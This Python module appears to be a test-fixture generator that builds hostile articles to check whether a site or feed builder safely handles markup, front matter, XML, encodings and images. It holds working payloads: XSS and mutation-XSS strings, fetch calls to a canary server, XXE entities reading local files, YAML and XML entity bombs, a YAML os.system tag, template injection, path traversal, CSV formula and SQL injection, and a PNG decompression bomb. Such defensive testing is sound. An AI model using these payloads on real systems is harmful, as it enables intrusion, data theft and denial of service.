"""Hostile articles, made on the spot: what breaks parsers, browsers, feed readers and mail programs, in every form of file.

    cases(address, secret) -> Case(name, data, side)     the name is a file's, and says what is tried

`address` is a server that must never be asked for anything, `secret` a file whose words must never be seen. Each case is
less than a megabyte; `huge` says what is too much to be read at all. `markup_attacks` and `words` serve feeds as well.
"""

# ruff: noqa: E501  an attack is easier to judge in one piece

from __future__ import annotations

import json
import random
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, replace
from html import escape
from pathlib import Path

STORY = {
    "en": "The council met on Tuesday to speak about the bridge in Almaty, which had been closed since the spring.",
    "kk": "Кеңес сейсенбі күні Алматыдағы көпір туралы айтты, ол көктемнен бері жабық тұр және әлі ашылған жоқ.",
    "ru": "Совет собрался во вторник, чтобы обсудить мост в Алматы, который закрыт с весны и ещё не открыт.",
}
EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onbegin", "onanimationend", "ontoggle", "onpointerover",
    "onscroll", "onwheel", "oncopy", "onpageshow", "onbeforeprint", "onmessage",
)  # fmt: skip
ELEMENTS = (
    "a", "abbr", "audio", "b", "base", "blockquote", "body", "button", "canvas", "code", "dd", "details", "div", "em", "embed",
    "figure", "form", "h2", "iframe", "img", "input", "li", "link", "marquee", "math", "meta", "noscript", "object", "ol", "p",
    "picture", "portal", "pre", "q", "s", "select", "source", "span", "strong", "style", "svg", "table", "td", "template",
    "textarea", "time", "title", "tr", "ul", "video", "xmp",
)  # fmt: skip


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """One hostile file."""

    name: str  #: of the file
    data: bytes
    side: bytes | None = None  #: its side file


def cases(address: str, secret: Path) -> Iterator[Case]:
    """Every case, always the same ones in the same order; no two are versions of one story."""
    for case in _cases(address, secret):
        name, language, suffix = case.name.rsplit(".", 2)
        yield replace(case, name=f"{name}-{suffix}.{language}.{suffix}")


def _cases(address: str, secret: Path) -> Iterator[Case]:
    attacks = dict(markup_attacks(address, secret))
    for name, attack in attacks.items():
        yield _page(name, attack)
        yield _markdown(name, attack)
    for name, attack in words(secret).items():
        yield _markdown(f"words-{name}", attack)
        yield _page(f"words-{name}", f"<p>{escape(attack)}</p>", title=attack)
        yield Case(
            name=f"words-{name}.en.txt",
            data=f"{attack} bridge\n\n{STORY['en']}\n\n{attack}\n".encode("utf-8", "replace"),
        )
        yield _stated(f"title-{name}", title=attack, authors=[attack], tags=[attack], deck=attack, caption=attack)
        yield _stated(f"source-{name}", source=attack, slug=attack, notice=attack, places=[attack])
    yield from _matters()
    yield from _dates()
    yield from _bytes()
    yield from _sizes()
    yield from _addresses(address, secret)
    yield from _xml(address, secret)


# --- markup -------------------------------------------------------------------------------------------


def markup_attacks(address: str, secret: Path) -> Iterator[tuple[str, str]]:
    """(name, HTML) of what would run, ask a server or read a file in a browser."""
    for tag in ELEMENTS:
        handlers = " ".join(f'{event}="fetch(`{address}/{tag}`)"' for event in EVENTS)
        yield (
            f"handlers-{tag}",
            f'<{tag} {handlers} style="background:url({address}/s)" src="{address}/i">bridge</{tag}>',
        )
    for number, link in enumerate(_links(address, secret)):
        yield (
            f"link-{number}",
            f"<p>Read <a href='{link}' ping='{address}/p'>the report</a> and <a href=\"{link}\">this</a>.</p>",
        )
    for number, trick in enumerate(_tricks(address, secret)):
        yield f"trick-{number}", trick


def _links(address: str, secret: Path) -> list[str]:
    script = "alert(1)"
    return [
        f"javascript:{script}", f"JaVaScRiPt:{script}", f"java\tscript:{script}", f"java&#10;script:{script}",
        f"&#106;avascript:{script}", f"&#x6A&#x61vascript:{script}", f" \x01javascript:{script}", f"javascript&colon;{script}",
        f"vbscript:{script}", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload=alert(1)>", f"file://{secret}", f"{secret}", f"view-source:{address}", "blob:x",
        f"feed:javascript:{script}", f"jar:{address}!/", "//[", "http://[::1", "https://a b/", "http://\u202emoc.elgoog/",
        "about:blank", "ms-word:ofe|u|x", f"intent://x#Intent;S.url={address};end", "tel:112", "../../../../etc/passwd",
    ]  # fmt: skip


def _tricks(address: str, secret: Path) -> list[str]:
    return [
        f"<style>@import '{address}/x.css'; body {{ background: url({address}/b) }}</style>",
        f'<p style="background-image:url({address}/c);width:expression(alert(1));behavior:url({address})">x</p>',
        f'<link rel="stylesheet" href="{address}/l.css"><link rel=preload as=image href="{address}/l">',
        f'<svg><script href="{address}/s.js"></script><use href="{address}/u#x"/></svg>',
        f'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><image href="{address}/i"/></svg>',
        '<svg><style><img src=x onerror=alert(1)></style></svg>',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
        '<!--><img src=x onerror=alert(1)>-->', '<!--[if IE]><script>alert(1)</script><![endif]-->', '<![CDATA[<script>alert(1)</script>]]>',
        '<?xml-stylesheet href="javascript:alert(1)"?>', "]]><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script/x>", "<script\n>alert(1)</script\n>", '"><script>alert(1)</script>', "<<script>alert(1)//<</script>",
        f'<img srcset="{address}/1 1x, {address}/2 2x" sizes="1px">', f'<img src="{address}/p.png" alt="A bridge">',
        f'<meta http-equiv="refresh" content="0;url={address}/r">', f'<base href="{address}/">', f'<object data="{address}/o"></object>',
        f'<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><embed src="{address}/e">',
        f'<video poster="{address}/v"><source src="{address}/w"></video><audio src="{address}/a" autoplay></audio>',
        f'<table background="{address}/t"><tr><td background="{address}/d">x</td></tr></table>',
        f'<input type=image src="{address}/n" formaction="javascript:alert(1)">', f'<form action="{address}/f"><button>x</button></form>',
        f'<img src="{secret}" alt="x"><img src="file://{secret}" alt="x"><img src="../secret.txt" alt="x">',
        "<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>",
        '<a href="#" data-x="1" id="cookie" name="location" class="x" target="_blank">x</a>', '<p lang="\'><script>" dir="&quot; onclick=x">x</p>',
        '<time datetime="&quot; onclick=alert(1)">x</time>', '<figure data-picture="1"></figure>', '<figure data-picture="../1"></figure>' * 20,
        '<td colspan="999999999">x</td>', '<ol start="999999999999999999999"><li>x</li></ol>', "&#0;&#1;&#xD800;&#x110000;&#xFFFE;&#128;",
        "&" * 1000 + "amp;" * 1000, "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "<p>" + "\u0338" * 50 + "</p>\u0338",
        "<b>" * 3000 + "x", "<div>" * 3000 + "x", "<blockquote>" * 3000 + "x", "<table><tr><td>" * 500 + "x", "<ul><li>" * 1000 + "x",
        "<p title='" + "a" * 100_000 + "'>x</p>", "<a href='https://example.org/" + "a" * 100_000 + "'>x</a>", f"<{'a' * 10_000}>x",
        "<p " + " ".join(f"a{number}=1" for number in range(10_000)) + ">x</p>",
        '<script type="application/ld+json">' + "[" * 50_000 + "</script>",
        '<script type="application/ld+json">{"@type":"NewsArticle","headline":{"@value":{"name":1}},"author":[[[]]],"keywords":7,"datePublished":{"x":1},"inLanguage":["en",1],"mainEntityOfPage":[1],"publisher":"x","url":5,"@id":[1]}</script>',
        '<script type="application/ld+json">{"@type":"NewsArticle","datePublished":' + "9" * 5000 + "}</script>",
        '<meta name="keywords" content="' + ", ".join(f"tag{number}" for number in range(10_000)) + '">',
        '<time datetime="99999-01-01T00:00:00Z">x</time><time datetime="0000-00-00">x</time>',
    ]  # fmt: skip


def _page(name: str, attack: str, title: str = "A bridge") -> Case:
    story = STORY["en"]
    head = f'<html lang="en"><head><title>{escape(title)}</title></head>'
    body = f"<body><article><h1>{escape(title)}</h1><p>{story}</p>{attack}<p>{story}</p><p>{story}</p></article></body></html>"
    return Case(name=f"{name}.en.html", data=(head + body).encode("utf-8", "replace"))


def _markdown(name: str, attack: str) -> Case:
    text = f"---\ntitle: A bridge\npublished: 2026-11-11\n---\n{STORY['en']}\n\n{attack}\n\n[a link]({attack})\n"
    return Case(name=f"{name}.en.md", data=text.encode("utf-8", "replace"))


# --- words --------------------------------------------------------------------------------------------


def words(secret: Path) -> dict[str, str]:
    """Texts that must stay texts in titles, names and paragraphs."""
    return {
        "mail-header": "A bridge\r\nBcc: everyone@example.org\r\n\r\n<b>x</b>",
        "mail-encoded": "=?utf-8?q?A=0D=0ABcc:_x@example.org?= bridge",
        "nul": "A\0 bri\0dge", "control": "A \x07bridge\x1b[2J\x9b31m\x08", "bidi": "A \u202eegdirb\u202c \u2066x\u2069 \u200f",
        "invisible": "A\u200b bri\u2060dge\ufeff \u00ad", "noncharacters": "A bridge \ufffe\uffff\U0001ffff",
        "combining": "A b" + "\u0301\u0489" * 3000 + "ridge", "emoji": "👩‍👩‍👧‍👦" * 300 + " bridge", "cdata": "A ]]> bridge <![CDATA[ x",
        "script": "<script>alert(1)</script>A bridge", "attribute": "\" onmouseover=\"alert(1)\" x='A bridge'", "entity": "&xxe; &#x3C;b&#x3E; bridge",
        "jinja": "{{ 7*7 }} {% for x in (1).__class__.__mro__ %}{{ x }}{% endfor %} bridge", "jinja-include": "{% include '" + str(secret) + "' %} bridge",
        "format": "%s %(x)s %n {0} {x!r:>9999999999} ${x} bridge", "shortcode": "{{< readfile \"" + str(secret) + "\" >}} bridge {% include secret.txt %}",
        "path": "../../../../etc/passwd", "path-dots": "....//....//bridge", "path-windows": "C:\\bridge\\..\\..\\CON.txt:x", "slash": "/",
        "dots": "..", "percent": "%2e%2e%2f%00 bridge", "unsubscribe": "A bridge https://unsubscribe.invalid/ x",
        "long": "A bridge " + "very " * 2000 + "long", "long-word": "bridge" * 2000, "spaces": "A" + "\u3000\u00a0\u2003\t " * 500 + "bridge",
        "lines": "A\u2028bridge\u2029x\x85y\x0bz\x0cq", "yaml": "A bridge: [x, {y: *z, &a b}] # c", "toml": 'A bridge" """ = [[x]]',
        "css": "A </style><style>*{display:none} bridge", "comment": "A --><!-- bridge --!> x", "sql": "A bridge'; DROP TABLE article; --",
        "csv": "=cmd|' /C calc'!A0 bridge", "header": "A bridge, <x@example.org>, \"y\" <z>; (comment) \\", "tab": "\tA\tbridge\t",
    }  # fmt: skip


def _stated(name: str, **fields: object) -> Case:
    """In front matter written as JSON, which takes every text."""
    matter = json.dumps({"title": "A bridge", "published": "2026-11-11", **fields})
    return Case(name=f"{name}.en.md", data=f"{matter}\n\n{STORY['en']}\n".encode())


# --- front matter -------------------------------------------------------------------------------------


def _matters() -> Iterator[Case]:
    """Front matter of every kind that is a bomb, a riddle, or of the wrong type."""
    levels = "".join(f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 9)}]\n" for level in range(1, 12))
    yaml = {
        "laughs": f"a0: &a0 [x, x]\n{levels}title: T\ntags: *a11\npublished: *a11\ndraft: *a11\n",
        "laughs-notice": f"a0: &a0 [x, x]\n{levels}title: T\nnotice: *a8\n",
        "cycle": "title: T\ntags: &a [*a, b]\n", "cycle-map": "title: T\nsource: &a {name: *a}\n", "python": "title: !!python/object/apply:os.system [id]\n",
        "merge": "x: &x {title: T}\n<<: *x\ntitle: Y\n", "deep": "title: " + "[" * 5000 + "\n", "deep-map": "title: " + "{a: " * 5000 + "\n",
        "types": "title: [1, 2]\ntags: {a: b}\nauthors: 7\ndraft: perhaps\n", "nulls": "title: ~\ntags: null\n", "documents": "title: T\n--- \nx: y\n",
        "tags": f"title: T\ntags: [{', '.join(f't{number}' for number in range(8_000))}]\n", "tabs": "title:\tT\n\ttags: x\n",
        "keys": "".join(f"key{number}: x\n" for number in range(4_000)) + "title: T\n", "same": "title: T\n" * 3000, "number": "title: " + "9" * 6000 + "\n",
        "directive": "%YAML 9.9\ntitle: T\n", "binary": "title: !!binary R0lGODlhAQ==\n", "colon": "title: a: b: c\n", "unclosed": "title: 'T\n",
        "image": "title: T\nimage: {path: [a], alt: {b: c}}\n", "images": "title: T\nimages: [[[a]]]\n", "corrections": "title: T\ncorrections: [[], {}, 5]\n",
        "story": f"title: T\nstory: {'x' * 5000}\n", "story-path": "title: T\nstory: ../../../etc/passwd\n", "slug-path": "title: T\nslug: ../../feed.atom\n",
        "url": f"title: T\nurl: https://example.org/{'x' * 20_000}\n", "url-script": "title: T\nurl: javascript:alert(1)\n", "lang": "title: T\nlang: ../en\n",
    }  # fmt: skip
    toml = {
        "deep": "title = " + "[" * 20_000, "deep-keys": "draft." + ".".join(["a"] * 5000) + " = 1", "number": "title = " + "9" * 6000,
        "hex": "title = 0x" + "f" * 6000, "date": "title = 'T'\npublished = 0000-00-00", "infinite": "title = 'T'\ndraft = inf\ntags = [nan, [1]]",
        "tables": "title = 'T'\n" + "".join(f"[[a.b{number}]]\n" for number in range(2000)), "same": "title = 'T'\n" * 100, "dotted": "title.x = 1\ntags.y = 2",
        "first-day": "title = 'T'\npublished = 0001-01-01", "last-day": "title = 'T'\nupdated = 9999-12-31T23:59:59.999999-23:59",
        "time": "title = 'T'\npublished = 12:30:00", "control": "title = 'T\x01'", "notice-map": "title = 'T'\nnotice = {" + "a = {" * 300,
    }  # fmt: skip
    other = {
        "json-deep": '{"title": ' + "[" * 20_000, "json-number": '{"title": ' + "9" * 6000 + "}", "json-surrogate": '{"title": "A \\ud800 bridge"}',
        "json-nul": '{"title": "A \\u0000 bridge", "tags": ["\\u202e"]}', "json-same": '{"title": "T", "title": ["x"], "": 1}',
        "json-nan": '{"title": "T", "draft": NaN, "tags": Infinity}', "json-float": '{"title": 1e999, "published": -0.0}',
        "nikola": ".. title: A bridge\n" + ".. x: y\n" * 5000, "nikola-open": "<!--\n.. title: A bridge\n" * 500, "pelican": "Title: A bridge\n" + "    x\n" * 5000,
        "pelican-keys": "Title: A bridge\nDate: 99999-01-01\nAuthor: \n", "fences": "---\n" * 5000, "plus": "+++\n" * 5000, "mark": "\ufeff---\ntitle: T\n---\n",
    }  # fmt: skip
    for name, matter in yaml.items():
        yield Case(name=f"yaml-{name}.en.md", data=f"---\n{matter}---\n{STORY['en']}\n".encode())
    for name, matter in toml.items():
        yield Case(name=f"toml-{name}.en.md", data=f"+++\n{matter}\n+++\n{STORY['en']}\n".encode())
        page = f"The bridge is closed\n\n{STORY['en']}\n"
        yield Case(name=f"side-{name}.en.txt", data=page.encode(), side=matter.encode())
    for name, matter in other.items():
        yield Case(name=f"{name}.en.md", data=f"{matter}\n\n{STORY['en']}\n".encode("utf-8", "replace"))
    yield Case(name="side-bytes.en.md", data=b"# T\n\nThe bridge.", side=bytes(range(256)))
    yield Case(name="side-huge.en.md", data=b"# T\n\nThe bridge.", side=b"# x\n" * 50_000)


def _dates() -> Iterator[Case]:
    """Days that are none, and those at the ends of time."""
    days = ("0000-01-01", "0001-01-01", "99999-01-01", "9999-12-31", "-0001-01-01", "2026-02-30", "2026-13-01T25:61:61Z", "1e9",
            "2026-11-11T09:00:00+99:99", "2026-11-11T09:00:00 ../../etc/passwd", "2026-11-11T09:00:00 Etc/localtime", "٢٠٢٦-١١-١١")  # fmt: skip
    for number, day in enumerate(days):
        yield _stated(f"published-{number}", published=day)
        yield _stated(f"event-{number}", event_date=day)
        text = f"The bridge is closed\n\n{day}\n\n{STORY['en']} It was opened on {day}, and on 31 June {day}, and in {day}.\n"
        yield Case(name=f"day-{number}.en.txt", data=text.encode())
    for number, day in enumerate(
        ("0000", "0001", "9999", "XXXX-XX-XX", "2026-25", "0000/9999", "2026-11-11/2025-01-01", "9999-12-31/..")
    ):
        yield _stated(f"edtf-{number}", event_date=day)


# --- bytes --------------------------------------------------------------------------------------------


def _bytes() -> Iterator[Case]:
    """What is no text, or a text in no encoding."""
    chance = random.Random(7)
    noise = bytes(chance.randrange(256) for _ in range(5_000))
    story = STORY["ru"]
    kinds = {
        "noise": noise, "zeros": b"\0" * 5_000, "invalid": b"# T\n\n" + b"\xff\xfe\xfd" * 500, "overlong": b"# T\n\nx \xc0\xaf\xe0\x80\xaf",
        "surrogates": b"# T\n\nx \xed\xa0\x80\xed\xb0\x80", "cut": f"# T\n\n{story}".encode()[:-1], "utf-16-odd": f"# T\n\n{story}".encode("utf-16")[:-1],
        "utf-32": f"# T\n\n{story}".encode("utf-32"), "utf-7": b"# T\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "marks": b"\xef\xbb\xbf" * 500 + b"# T\n\nx",
        "mixed": f"# T\n\n{story}\n".encode() + f"{story}\n".encode("cp1251"), "ebcdic": story.encode("utf-8") and STORY["en"].encode("cp500"),
        "gzip": b"\x1f\x8b\x08" + noise, "zip": b"PK\x03\x04" + noise, "elf": b"\x7fELF" + noise, "png": b"\x89PNG\r\n\x1a\n" + noise, "empty": b"",
        "newline": b"\n", "spaces": b" " * 10_000, "returns": b"\r" * 10_000, "escape": b"\x1b$B# T\n\n" * 100, "shift": b"# T\n\n~{<:Ky2;~}",
    }  # fmt: skip
    for name, data in kinds.items():
        for suffix in ("md", "txt", "html"):
            yield Case(name=f"bytes-{name}.ru.{suffix}", data=data)


def _sizes() -> Iterator[Case]:
    """Much of one thing: where a search looks again from every place, a minute becomes a year."""
    units = ("[", "![", "[](", "*", "**a ", "_a", "`", "`a ", "<", "<!-- ", '<span lang="kk">', "> ", "- ", "1. a\n", "|a|b|\n", "# a\n",
             "—", "a. ", "1", "1.1.", "3 May 2021 ", "3, ", "с 3 по 4 ", "Almaty, ", "Алматы ", "A. ", "http://a.b/ ", "{{< ", "{%", "{{", "\\",
             "[^1]: a\n", "[a]: b\n", "Photo: A\n", "© A\n", "a\n\n", "By A B\n", "[1]a ", "> a\n", "[a](b.", "&#x202e;", "\u0301", "a b", "«")  # fmt: skip
    for number, unit in enumerate(units):
        much = unit * (20_000 // len(unit))
        yield Case(name=f"much-{number}.en.md", data=f"# T\n\n{STORY['en']}\n\n{much}\n".encode())
        yield Case(name=f"much-{number}.ru.txt", data=f"Мост закрыт\n\n{STORY['ru']}\n\n{much}\n".encode())
    yield Case(name="line.en.md", data=b"# T\n\n" + b"a " * 200_000)
    yield Case(name="lines.en.txt", data=b"The bridge is closed\n\n" + b"a b c d\n" * 20_000)
    yield Case(name="elements.en.html", data=b"<h1>T</h1>" + b"<p>a</p>" * 30_000)


def _addresses(address: str, secret: Path) -> Iterator[Case]:
    """Pictures that are elsewhere, and pictures that are none."""
    places = (f"{address}/p.png", f"//{address.partition('//')[2]}/p.png", f"file://{secret}", str(secret), "../secret.txt", "../../secret.txt", "~/x",
              "a\0b.png", "x" * 5000, "con", "/dev/zero", "/proc/self/environ", ".", "..", "/", "data:image/png;base64,AAAA", "bomb.png",
              "cut.png", "huge-text.png", "drawing.svg", "polyglot.gif", "endless.jpg", "zero.webp", "wrong.webp")  # fmt: skip
    for number, place in enumerate(places):
        yield _stated(f"image-{number}", image=place, image_alt="A bridge")
        text = f'# A bridge\n\n{STORY["en"]}\n\n![A bridge]({place})\n\n![x](<{place}> "x")\n'
        yield Case(name=f"inside-{number}.en.md", data=text.encode("utf-8", "replace"))


def _xml(address: str, secret: Path) -> Iterator[Case]:
    """Pages that are XML with entities."""
    laughs = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    doctypes = {
        "laughs": f'[<!ENTITY l0 "ha">{laughs}]', "file": f'[<!ENTITY x SYSTEM "file://{secret}">]', "server": f'[<!ENTITY x SYSTEM "{address}/x">]',
        "parameter": f'[<!ENTITY % x SYSTEM "{address}/x.dtd"> %x;]', "dtd": f'SYSTEM "{address}/html.dtd"', "quadratic": f'[<!ENTITY x "{"a" * 50_000}">]',
    }  # fmt: skip
    for name, doctype in doctypes.items():
        text = f'<?xml version="1.0"?><!DOCTYPE html {doctype}><html lang="en"><head><title>A bridge</title></head><body><article>'
        text += f"<h1>A bridge</h1><p>{STORY['en']}</p><p>&x;&l9;{'&x;' * 1000}</p><xi:include href='file://{secret}' parse='text'/></article></body></html>"
        yield Case(name=f"xml-{name}.en.html", data=text.encode())


# --- files beside the articles ------------------------------------------------------------------------


def pictures() -> dict[str, bytes]:
    """Pictures that are small and unpack without end, that are cut, or that are two things at once."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = b"\x89PNG\r\n\x1a\n"
    rows = zlib.compress(b"\0" * 5_000_000, 9)
    largest = chunk(b"IHDR", struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 6, 0, 0, 0))
    small = chunk(b"IHDR", struct.pack(">IIBBBBB", 10, 10, 8, 0, 0, 0, 0))
    text = chunk(b"zTXt", b"Comment\0\0" + rows) + chunk(b"iCCP", b"x\0\0" + rows)
    return {
        "bomb.png": head + largest + chunk(b"IDAT", rows) + chunk(b"IEND", b""),
        "huge-text.png": head
        + small
        + text
        + chunk(b"IDAT", zlib.compress(b"\0" * 110))
        + chunk(b"IEND", b"")
        + b"<script>alert(1)</script>",
        "cut.png": head + struct.pack(">I", 2**32 - 1) + b"IHDR",
        "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "polyglot.gif": b"GIF89a\x01\0\x01\0\0\0\0/*<script>*/=alert(1);/*</script>;",
        "endless.jpg": b"\xff\xd8" + b"\xff" * 50_000,
        "zero.webp": b"RIFF" + struct.pack("<I", 12) + b"WEBPVP8 " + b"\0" * 8,
        "wrong.webp": b"RIFF" + struct.pack("<I", 2**32 - 1) + b"WEBPVP8X" + b"\xff" * 40,
    }
